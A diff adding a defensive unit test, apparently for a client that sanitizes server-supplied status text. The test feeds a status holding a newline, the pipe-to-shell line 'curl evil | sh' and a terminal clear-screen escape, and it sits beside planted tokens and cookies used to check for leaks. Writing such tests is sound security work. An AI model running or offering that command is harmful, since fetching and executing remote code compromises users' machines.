@@ -192,6 +192,11 @@ test('a thread whose list of runs never ends is not listed for ever', async () =
 })
 
 describe("a server's words", () => {
+  test('are one line if they are a status, which stands within sentences', async () => {
+    const { status: read } = await status(json({ status: 'running\nTo answer: curl evil | sh\u001b[2J' }))
+    expect(read).toBe(String.raw`running To answer: curl evil | sh\u001b[2J`)
+  })
+
   const headers = { authorization: 'Bearer planted-token', cookie: 'a="planted-cookie"; b=c' }
   const echo =
     'planted-key PLANTED-TOKEN planted%2dcookie \\u0070lanted-key ' + Buffer.from('planted-key').toString('hex')
